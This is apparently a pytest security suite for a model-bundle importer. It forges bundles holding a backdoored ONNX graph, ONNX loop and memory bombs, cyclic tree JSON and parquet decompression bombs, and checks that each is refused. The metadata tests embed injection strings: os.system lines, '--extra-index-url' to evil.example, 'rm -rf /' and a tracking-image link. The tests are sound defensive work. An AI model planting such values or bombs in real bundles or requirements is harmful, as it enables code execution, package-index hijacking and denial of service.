"""A bundle is untrusted input end to end: each attack built here, from a real bundle, as a forger would.

Every payload starts from a bundle made by ``export_version(..., "bundle")`` and rewrites zip
entries, then re-signs the manifest's sha256s (the hashes are the sender's own: they prove
integrity, not origin). Loads that could hang or eat memory run in a child process with a
timeout, and the child reports its own peak memory.
"""

from __future__ import annotations

import ast
import io
import json
import subprocess
import sys
import zipfile
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from core import Store
from core.errors import FormatError
from core.formats import sha256_bytes
from core.frames import TARGET_COLUMN, write_evaluation_set
from core.portable.bundle import import_bundle, is_bundle
from core.portable.exports import export_version, predict_rows
from core.portable.how_to_load import how_to_load
from core.portable.requirements import requirements_txt
from tests.conftest import ROOT
from tests.portable_support import rezip, trained

CHILD_TIMEOUT = 240


@pytest.fixture(scope="module")
def real(tmp_path_factory):
    """A real iris random-forest bundle (with ONNX and JSON forms), and the store it came from."""
    store = Store(tmp_path_factory.mktemp("sender"))
    store.save_trained(trained("builtin:iris", "random_forest"), "iris")
    data = export_version(store, "iris", "bundle").data
    yield store, data
    store.close()


@pytest.fixture
def other(tmp_path):
    s = Store(tmp_path / "receiver")
    yield s
    s.close()


def member(data: bytes, name: str) -> bytes:
    return zipfile.ZipFile(io.BytesIO(data)).read(name)


def forge(data: bytes, replace: dict[str, bytes | None], manifest_changes: dict | None = None) -> bytes:
    """The bundle with members replaced (None: removed) and the manifest re-signed to match."""
    manifest = json.loads(member(data, "manifest.json"))
    for name, content in replace.items():
        if content is None:
            manifest["files"].pop(name, None)
        else:
            manifest["files"][name] = {"sha256": sha256_bytes(content), "size_bytes": len(content)}
    manifest.update(manifest_changes or {})
    replace = {**replace, "manifest.json": json.dumps(manifest).encode()}
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as target:
        for name in dict.fromkeys([*source.namelist(), *replace]):
            content = replace[name] if name in replace else source.read(name)
            if content is not None:
                target.writestr(name, content)
    return out.getvalue()


def with_metadata(data: bytes, change) -> bytes:
    metadata = json.loads(member(data, "metadata.json"))
    change(metadata)
    return forge(data, {"metadata.json": json.dumps(metadata).encode()})


def run_import(tmp_path: Path, bundle: bytes) -> tuple[subprocess.CompletedProcess, int, Path]:
    """``python -m core import`` of the bundle in a child; its result, peak RSS (MB) and store."""
    path = tmp_path / "forged.zip"
    path.write_bytes(bundle)
    store = tmp_path / "child-store"
    # VmHWM is this process's own peak (ru_maxrss would include the parent's, carried across exec).
    code = (
        "import sys\n"
        "from core.cli import main\n"
        "rc = main(['import', sys.argv[1], '--store', sys.argv[2]])\n"
        "peak = [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
        "print('peak_kb', peak, file=sys.stderr)\n"
        "sys.exit(rc)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path), str(store)],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=CHILD_TIMEOUT,
    )
    peak = next(int(line.split()[1]) for line in done.stderr.splitlines() if line.startswith("peak_kb"))
    return done, peak // 1024, store


def error_lines(done: subprocess.CompletedProcess) -> list[str]:
    return [line for line in done.stderr.splitlines() if not line.startswith("peak_kb")]


# -- ONNX and params.json files are never run or parsed as shipped ------------------------------------


def _onnx(nodes, outputs, initializers, template: bytes) -> bytes:
    """A small ONNX graph with the real export's input and metadata (so it looks like ours)."""
    import onnx
    from onnx import helper

    real = onnx.load_model_from_string(template)
    graph = helper.make_graph(nodes, "forged", list(real.graph.input), outputs, initializer=initializers)
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    model.ir_version = 8
    for prop in real.metadata_props:
        model.metadata_props.append(prop)
    return model.SerializeToString()


def _constant_outputs(label_class: int, n_classes: int, n_features: int):
    """Nodes that answer ``label_class`` with probability 1 for every row, whatever the input."""
    from onnx import TensorProto, helper, numpy_helper

    onehot = np.zeros((1, n_classes), dtype=np.float32)
    onehot[0, label_class] = 1.0
    inits = [
        numpy_helper.from_array(np.zeros((n_features, n_classes), dtype=np.float32), "zeros"),
        numpy_helper.from_array(onehot, "onehot"),
    ]
    nodes = [
        helper.make_node("MatMul", ["input", "zeros"], ["nothing"]),
        helper.make_node("Add", ["nothing", "onehot"], ["probabilities"]),
        helper.make_node("ArgMax", ["probabilities"], ["label"], axis=1, keepdims=0),
    ]
    outputs = [
        helper.make_tensor_value_info("label", TensorProto.INT64, [None]),
        helper.make_tensor_value_info("probabilities", TensorProto.FLOAT, [None, n_classes]),
    ]
    return nodes, outputs, inits


def test_a_backdoored_onnx_that_agrees_on_the_senders_rows_is_not_what_predicts(real, other):
    # Before: kept (it agrees with the model on the sender's own evaluation rows, all class 0), and
    # the dashboard's one-row Predict ("auto": ONNX first) answered 0 for a virginica row.
    store, data = real
    model = store.load("iris").model
    frame = pd.read_parquet(io.BytesIO(member(data, "evaluation.parquet")))
    X = frame.drop(columns=[TARGET_COLUMN])
    sure = (model.predict_proba(X)[:, 0] == 1.0) & (model.predict(X) == 0)
    assert sure.sum() >= 5  # the sender picks rows on which the backdoor agrees
    rows = io.BytesIO()
    write_evaluation_set(frame[sure].reset_index(drop=True), rows)
    nodes, outputs, inits = _constant_outputs(0, 3, X.shape[1])
    backdoor = _onnx(nodes, outputs, inits, member(data, "model.onnx"))
    result = import_bundle(other, forge(data, {"model.onnx": backdoor, "evaluation.parquet": rows.getvalue()}))
    onnx_info = result.record["exports"]["onnx"]
    assert onnx_info["sha256"] != sha256_bytes(backdoor) and onnx_info.get("source") != "bundle"
    virginica = X[model.predict(X) == 2].head(1).reset_index(drop=True)
    predicted, engine = predict_rows(other, "iris", virginica, engine="auto")
    assert engine == "onnx" and int(predicted["prediction"].iloc[0]) == 2


def test_an_onnx_loop_of_2_to_the_62_iterations_is_never_run(real, tmp_path):
    # Before: the import ran it to check parity and never returned (killed at the timeout).
    from onnx import TensorProto, helper, numpy_helper

    _, data = real
    nodes, outputs, inits = _constant_outputs(0, 3, 4)
    body = helper.make_graph(
        [
            helper.make_node("Identity", ["cond_in"], ["cond_out"]),
            helper.make_node("Add", ["v_in", "one"], ["v_out"]),
        ],
        "spin",
        [
            helper.make_tensor_value_info("i", TensorProto.INT64, []),
            helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_in", TensorProto.FLOAT, []),
        ],
        [
            helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []),
            helper.make_tensor_value_info("v_out", TensorProto.FLOAT, []),
        ],
        initializer=[numpy_helper.from_array(np.array(1.0, dtype=np.float32), "one")],
    )
    inits += [
        numpy_helper.from_array(np.array(2**62, dtype=np.int64), "trips"),
        numpy_helper.from_array(np.array(True), "yes"),
        numpy_helper.from_array(np.array(0.0, dtype=np.float32), "start"),
    ]
    nodes.append(helper.make_node("Loop", ["trips", "yes", "start"], ["spun"], body=body))
    outputs.append(helper.make_tensor_value_info("spun", TensorProto.FLOAT, []))
    loop = _onnx(nodes, outputs, inits, member(data, "model.onnx"))
    done, _, store = run_import(tmp_path, forge(data, {"model.onnx": loop}))
    assert done.returncode == 0, done.stderr
    record = Store(store).get("iris")
    assert record["exports"]["onnx"]["sha256"] != sha256_bytes(loop)


def test_a_4_kb_onnx_graph_that_allocates_3_5_gb_is_never_run(real, tmp_path):
    # Before: the child's peak memory reached about 3.5 GB while checking the shipped file's parity.
    from onnx import TensorProto, helper, numpy_helper

    _, data = real
    nodes, outputs, inits = _constant_outputs(0, 3, 4)
    inits.append(numpy_helper.from_array(np.array([875_000_000], dtype=np.int64), "huge"))
    value = helper.make_tensor("value", TensorProto.FLOAT, [1], [1.0])
    nodes += [
        helper.make_node("ConstantOfShape", ["huge"], ["big"], value=value),
        helper.make_node("ReduceSum", ["big"], ["total"], keepdims=0),
    ]
    outputs.append(helper.make_tensor_value_info("total", TensorProto.FLOAT, []))
    bomb = _onnx(nodes, outputs, inits, member(data, "model.onnx"))
    assert len(bomb) < 4096
    done, peak_mb, store = run_import(tmp_path, forge(data, {"model.onnx": bomb}))
    assert done.returncode == 0, done.stderr
    assert peak_mb < 1000, f"peak {peak_mb} MB"
    assert Store(store).get("iris")["exports"]["onnx"]["sha256"] != sha256_bytes(bomb)


def _params(data: bytes) -> dict:
    return json.loads(member(data, "params.json"))


def test_a_params_json_tree_with_a_cycle_is_never_walked(real, tmp_path):
    # Before: the import compared the JSON predictor with the model and never returned.
    _, data = real
    params = _params(data)
    params["model"]["trees"][0]["children_left"][0] = 0  # the root's left child is the root
    cyclic = json.dumps(params).encode()
    done, _, store = run_import(tmp_path, forge(data, {"params.json": cyclic}))
    assert done.returncode == 0, done.stderr
    assert Store(store).get("iris")["exports"]["json"]["sha256"] != sha256_bytes(cyclic)


def test_a_params_json_dtype_asking_for_gigabytes_is_never_read(real, tmp_path):
    # Before: numpy was asked for 3 x 2,000,000,000 bytes (5.6 GiB) to hold three class labels.
    _, data = real
    params = _params(data)
    params["classes_dtype"] = "S2000000000"
    huge = json.dumps(params).encode()
    done, peak_mb, store = run_import(tmp_path, forge(data, {"params.json": huge}))
    assert done.returncode == 0, done.stderr
    assert peak_mb < 1000, f"peak {peak_mb} MB"
    assert Store(store).get("iris")["exports"]["json"]["sha256"] != sha256_bytes(huge)


# -- metadata is parsed against a schema; claims are stored as claims ----------------------------------


def _refused(other: Store, bundle: bytes, match: str) -> None:
    with pytest.raises(FormatError, match=match):
        import_bundle(other, bundle)
    assert other.count() == 0


def test_a_newline_in_the_saved_sklearn_version_is_refused(real, other):
    # Before: stored; the requirements.txt exported from it had an --extra-index-url line of its
    # own, and the "how to load" snippet's pip line ended and an os.system line ran.
    _, data = real
    evil = "1.8.0\nimport os; os.system('touch /tmp/pwned')\n--extra-index-url https://evil.example/simple"

    def change(metadata):
        metadata["environment"]["packages"]["scikit-learn"] = evil

    _refused(other, with_metadata(data, change), r"metadata\.json.*scikit-learn.*not a version")


def test_the_cli_refuses_a_forged_metadata_field_with_one_line_and_stores_nothing(real, tmp_path, capsys):
    from core.cli import main

    _, data = real

    def change(metadata):
        metadata["environment"]["packages"]["numpy"] = "2.0\n--extra-index-url https://evil.example/simple"

    path = tmp_path / "forged.zip"
    path.write_bytes(with_metadata(data, change))
    assert main(["import", str(path), "--store", str(tmp_path / "s")]) == 1
    out, err = capsys.readouterr()
    assert out == "" and err.count("\n") == 1
    assert err.startswith("error: The bundle's metadata.json: environment.packages['numpy'] is not a version string")
    assert err.rstrip().endswith("nothing imported") and "unexpected" not in err
    assert Store(tmp_path / "s").count() == 0


def test_a_newline_in_a_column_name_is_refused(real, other):
    # Before: stored; "how to load" pasted the name into a comment, and the next line was code.
    _, data = real

    def change(metadata):
        metadata["dataset"]["feature_names"][0] = "x\nimport os; os.system('touch /tmp/pwned')\n#"

    _refused(other, with_metadata(data, change), r"metadata\.json.*feature_names")


def test_a_markdown_compression_field_is_refused(real, other):
    # Before: stored as given; the Upload and Model detail pages drew it as Markdown (a link and a
    # tracking image).
    _, data = real

    def change(metadata):
        metadata["compression"] = "[click](https://evil.example) ![](https://evil.example/t.png)"

    _refused(other, with_metadata(data, change), r"metadata\.json.*compression")


@pytest.mark.parametrize(
    ("change", "match"),
    [
        (lambda m: m.update(created_at="2026\n" + "x" * 50), "created_at"),
        (lambda m: m["environment"].update(python_version="3.11\nrm -rf /"), "python_version"),
        (lambda m: m["environment"]["packages"].update({"evil pkg\n": "1.0"}), "package name"),
        (lambda m: m["dataset"].update(target="y" * 1000), "target"),
        (lambda m: m.update(warnings=["w"] * 10_000), "warnings"),
        (lambda m: m["metrics"].update(accuracy="1.0"), "metrics"),
        (lambda m: m["metrics"].update(accuracy=7.5), "metrics"),
        (lambda m: m.update(split={"test_size": "0.33\n"}), "split"),
    ],
)
def test_metadata_out_of_its_schema_is_refused(real, other, change, match):
    _, data = real
    _refused(other, with_metadata(data, change), rf"metadata\.json.*{match}")


def test_unknown_metadata_fields_are_dropped(real, other):
    _, data = real

    def change(metadata):
        metadata["surprise"] = {"a": [1, 2, 3]}
        metadata["origin"] = "trained"

    record = import_bundle(other, with_metadata(data, change)).record
    assert "surprise" not in record and record["origin"] == "imported"


def test_metadata_json_over_1_mb_is_refused_before_it_is_parsed(real, tmp_path):
    # Before: a 295 KB bundle whose metadata.json unpacks to 300 MB: the import peaked near 2 GB
    # and stored a 300 MB index row.
    _, data = real
    metadata = json.loads(member(data, "metadata.json"))
    metadata["warnings"] = ["x" * 300_000_000]
    bundle = forge(data, {"metadata.json": json.dumps(metadata).encode()})
    del metadata
    assert len(bundle) < 400_000
    done, peak_mb, store = run_import(tmp_path, bundle)
    assert done.returncode == 1
    assert error_lines(done) == [
        "error: The bundle's metadata.json is 300.0 MB; at most 1.0 MB is read; nothing imported"
    ]
    assert peak_mb < 500, f"peak {peak_mb} MB"
    assert Store(store).count() == 0


def test_claimed_metrics_without_an_evaluation_set_are_stored_as_claims(real, other):
    # Before: metrics.accuracy 1.0 was stored as if measured and topped the Models page.
    _, data = real

    def change(metadata):
        metadata["metrics"]["accuracy"] = 1.0

    bundle = forge(with_metadata(data, change), {"evaluation.parquet": None})
    other.save_trained(trained("builtin:iris", "logistic_regression"), "measured")
    record = import_bundle(other, bundle).record
    assert record["metrics"] == {}
    assert record["claimed_metrics"]["accuracy"] == 1.0
    table = other.table(sort="accuracy")
    assert list(table["ref"]) == ["measured:1", "iris:1"]
    assert pd.isna(table["accuracy"].iloc[1])
    assert pd.isna(other.table(sort="accuracy", descending=False)["accuracy"].iloc[-1])


def test_a_manifest_name_with_a_newline_is_refused(real, other):
    _, data = real
    _refused(other, forge(data, {}, {"name": "iris\n"}), "Invalid model name")


def test_a_manifest_version_out_of_range_is_refused(real, other):
    _, data = real
    _refused(other, forge(data, {}, {"version": 2**70}), "manifest")


def test_a_deeply_nested_metadata_json_gets_one_clear_error(real, other):
    _, data = real
    _refused(other, forge(data, {"metadata.json": b"[" * 200_000}), "metadata.json")


def test_a_deeply_nested_manifest_is_not_taken_for_a_bundle_and_gets_one_clear_error(real, other, tmp_path):
    from core.cli import main

    _, data = real
    nested = rezip(data, {"manifest.json": b"[" * 200_000})
    assert not is_bundle(nested)
    with pytest.raises(FormatError, match=r"manifest\.json is not valid JSON"):
        import_bundle(other, nested)
    path = tmp_path / "nested.zip"
    path.write_bytes(nested)
    assert main(["import", str(path), "--name", "x", "--store", other.location]) == 1
    assert other.count() == 0


# -- what is generated from a record is built, never pasted ------------------------------------------


def _hostile_record(real) -> dict:
    """A record as an older ModelShelf could have stored it from a forged bundle."""
    store, _ = real
    record = json.loads(json.dumps(store.get("iris")))
    record["environment"]["packages"]["scikit-learn"] = "1.8.0\n--extra-index-url https://evil.example/simple"
    record["environment"]["python_version"] = "3.11\n--extra-index-url https://evil.example/py"
    record["environment"]["platform"] = "linux\n--index-url https://evil.example/p"
    record["dataset"]["feature_names"][0] = "x\nimport os; os.system('touch /tmp/pwned')\n#"
    return record


@pytest.mark.parametrize("fmt", ["pickle", "joblib", "skops", "onnx", "json", "bundle"])
def test_snippets_from_a_hostile_record_hold_no_injected_code(real, fmt):
    snippet = how_to_load(_hostile_record(real), fmt)
    lines = [line.strip() for line in snippet.splitlines()]
    assert not any(line.startswith(("import os", "--")) for line in lines), snippet
    assert "evil.example" not in snippet
    calls = [n.func for n in ast.walk(ast.parse(snippet)) if isinstance(n, ast.Call)]
    assert not any(isinstance(f, ast.Attribute) and f.attr == "system" for f in calls)


def test_requirements_from_a_hostile_record_pin_only_valid_versions(real):
    text = requirements_txt(_hostile_record(real))
    assert "evil.example" not in text
    for line in text.splitlines():
        assert line.startswith("#") or "==" in line or line.replace("-", "").isalnum(), line
        assert not line.startswith("-")


def test_the_skops_snippet_names_the_exact_types_and_compares_them(real):
    store, _ = real
    import skops.io as sio

    exported = export_version(store, "iris", "skops")
    needed = sio.get_untrusted_types(data=exported.data)
    snippet = how_to_load(store.get("iris"), "skops", skops_types=needed)
    assert f"expected = {sorted(needed)!r}" in snippet
    assert "trusted=untrusted" not in snippet and "trusted=sio.get_untrusted_types" not in snippet
    assert "trusted=expected" in snippet


# -- a parameter JSON imported directly (python -m core import FILE.json --name NAME) -----------------


def _import_json_in_child(tmp_path: Path, document: dict) -> tuple[subprocess.CompletedProcess, int, Path]:
    """``python -m core import X.json --name x`` in a child held to 6 GB of address space."""
    path = tmp_path / "params.json"
    path.write_text(json.dumps(document))
    store = tmp_path / "json-store"
    code = (
        "import resource, sys\n"
        "resource.setrlimit(resource.RLIMIT_AS, (6 * 2**30, 6 * 2**30))\n"
        "from core.cli import main\n"
        "rc = main(['import', sys.argv[1], '--name', 'x', '--store', sys.argv[2]])\n"
        "peak = [l.split()[1] for l in open('/proc/self/status') if l.startswith('VmHWM:')][0]\n"
        "print('peak_kb', peak, file=sys.stderr)\n"
        "sys.exit(rc)\n"
    )
    done = subprocess.run(
        [sys.executable, "-c", code, str(path), str(store)], cwd=ROOT, capture_output=True, text=True, timeout=120
    )
    peak = next(int(line.split()[1]) for line in done.stderr.splitlines() if line.startswith("peak_kb"))
    return done, peak // 1024, store


def cyclic_tree(params: dict) -> None:
    """Tree 1's root becomes its own right child."""
    params["model"]["trees"][1]["children_right"][0] = 0


def huge_classes_dtype(params: dict) -> None:
    """Nine class labels of 2,000,000,000 bytes each: 16.8 GiB if numpy were asked for them."""
    params["classes"], params["classes_dtype"] = list(range(9)), "S2000000000"


#: Edits of a real parameter JSON that make it hostile, and what its refusal says (tests/test_importing.py
#: runs them through core.importing, the import the Upload page uses, too).
PARAMS_OUT_OF_BOUNDS = [
    (lambda p: p["model"]["trees"][0]["children_left"].__setitem__(0, 10**9), "out of range"),
    (lambda p: p["model"]["trees"][0]["feature"].__setitem__(0, 10**6), "feature"),
    (lambda p: p.update(classes=list(range(20_000))), "classes"),
    (lambda p: p["model"]["trees"][0]["children_left"].append(-1), "same length"),
]


def test_a_parameter_json_whose_tree_has_a_cycle_is_refused(real, tmp_path):
    # Before: read and rebuilt without complaint, and stored as x:1 (its predict would never return).
    from core.portable.params_checks import read_params

    _, data = real
    params = _params(data)
    cyclic_tree(params)
    with pytest.raises(FormatError, match=r"tree 1 .*(cycle|more than once)"):
        read_params(json.dumps(params).encode())
    done, _, store = _import_json_in_child(tmp_path, params)
    assert done.returncode == 1
    assert len(error_lines(done)) == 1 and "tree 1" in error_lines(done)[0], done.stderr
    assert Store(store).count() == 0


def test_a_parameter_json_dtype_asking_for_16_8_gib_is_refused_before_numpy_sees_it(real, tmp_path):
    # Before: numpy was asked for 9 x 2,000,000,000 bytes (16.8 GiB) for the class labels: within
    # the child's 6 GB limit, "error: MemoryError: Unable to allocate 16.8 GiB ..."; without a limit,
    # the allocation itself.
    _, data = real
    params = _params(data)
    huge_classes_dtype(params)
    done, peak_mb, store = _import_json_in_child(tmp_path, params)
    assert done.returncode == 1
    assert error_lines(done) == [
        "error: The parameter file's classes_dtype 'S2000000000' is not one of: int64, float64, bool, object"
    ]
    assert peak_mb < 600, f"peak {peak_mb} MB"
    assert Store(store).count() == 0


@pytest.mark.parametrize(("change", "match"), PARAMS_OUT_OF_BOUNDS)
def test_a_parameter_json_out_of_bounds_is_refused(real, change, match):
    from core.portable.params_checks import read_params

    _, data = real
    params = _params(data)
    change(params)
    with pytest.raises(FormatError, match=match):
        read_params(json.dumps(params).encode())


def test_a_parameter_json_over_the_upload_limit_is_refused_before_it_is_parsed(real):
    from core.portable.params_checks import read_params

    with pytest.raises(FormatError, match="over the upload limit"):
        read_params(member(real[1], "params.json"), max_bytes=100)
    with pytest.raises(FormatError, match=r"not valid JSON|Not a JSON"):
        read_params(b"[" * 200_000)


def test_an_evaluation_parquet_that_expands_past_the_limit_is_refused_before_it_is_read(real, other):
    """Before: only the zip's sizes were bounded; a few-kB zstd parquet of two million repeated
    rows was decoded in the serving process (80 MB here; gigabytes with more rows)."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    from core.errors import ModelShelfError
    from core.safety import LoadLimits

    _, data = real
    rows = pd.read_parquet(io.BytesIO(member(data, "evaluation.parquet")))
    big = rows.iloc[[0] * 2_000_000].reset_index(drop=True)
    sink = io.BytesIO()
    pq.write_table(pa.Table.from_pandas(big, preserve_index=False), sink, compression="zstd")
    assert len(sink.getvalue()) < 500_000
    del big
    bundle = forge(data, {"evaluation.parquet": sink.getvalue()})
    limits = LoadLimits(max_bytes=50_000_000, max_decompressed_bytes=10_000_000, timeout_s=60)
    with pytest.raises(ModelShelfError, match=r"evaluation\.parquet decodes to"):
        import_bundle(other, bundle, limits=limits)
    assert other.count() == 0


def test_an_evaluation_parquet_whose_text_dictionary_expands_is_refused(real, tmp_path, monkeypatch):
    """Before: a text column dictionary-encoded as one long value repeated on every row passed the
    footer's sizes (the dictionary page counts once) and decoded to 500 MB in the serving process
    from a file of a few kB; now its decoded size is counted from the dictionary before decoding."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    _, data = real
    rows = pd.read_parquet(io.BytesIO(member(data, "evaluation.parquet")))
    n = 100_000
    table = pa.Table.from_pandas(rows.iloc[np.arange(n) % len(rows)].reset_index(drop=True), preserve_index=False)
    note = pa.DictionaryArray.from_arrays(pa.array(np.zeros(n, dtype=np.int32)), pa.array(["x" * 5000]))
    sink = io.BytesIO()
    # Without the Arrow schema, a reader decodes the column to plain strings: 5,000 bytes a row.
    pq.write_table(table.append_column("note", note), sink, compression="zstd", store_schema=False)
    assert len(sink.getvalue()) < 200_000
    monkeypatch.setenv("MODELSHELF_MAX_DECOMPRESSED_MB", "100")
    done, peak_mb, store = run_import(tmp_path, forge(data, {"evaluation.parquet": sink.getvalue()}))
    assert done.returncode != 0
    lines = error_lines(done)
    assert len(lines) == 1 and "evaluation.parquet decodes to about" in lines[0], lines
    assert peak_mb < 450, f"peak {peak_mb} MB"
    assert Store(store).count() == 0


@pytest.mark.parametrize("kind", ["list", "fixed_size_binary"])
def test_an_evaluation_parquet_with_a_column_its_rows_do_not_bound_is_refused(real, other, kind):
    """Before: a list column (any number of values a row) or a dictionary of fixed-size binary
    slipped past the size estimate, which counts rows and text dictionaries: a 646-byte list
    column decoded to 32.5 MB. An evaluation set holds numbers, booleans and text; anything else
    is refused before it is decoded."""
    import pyarrow as pa
    import pyarrow.parquet as pq

    _, data = real
    rows = pd.read_parquet(io.BytesIO(member(data, "evaluation.parquet")))
    table = pa.Table.from_pandas(rows, preserve_index=False)
    n = len(rows)
    if kind == "list":
        extra = pa.array([list(range(1000))] * n, pa.list_(pa.int64()))
    else:
        extra = pa.DictionaryArray.from_arrays(
            pa.array(np.zeros(n, dtype=np.int32)), pa.array([b"x" * 2000], pa.binary(2000))
        )
    sink = io.BytesIO()
    pq.write_table(table.append_column("extra", extra), sink, compression="zstd")
    with pytest.raises(FormatError, match=r"evaluation\.parquet cannot be read: its column 'extra' holds"):
        import_bundle(other, forge(data, {"evaluation.parquet": sink.getvalue()}))
    assert other.count() == 0
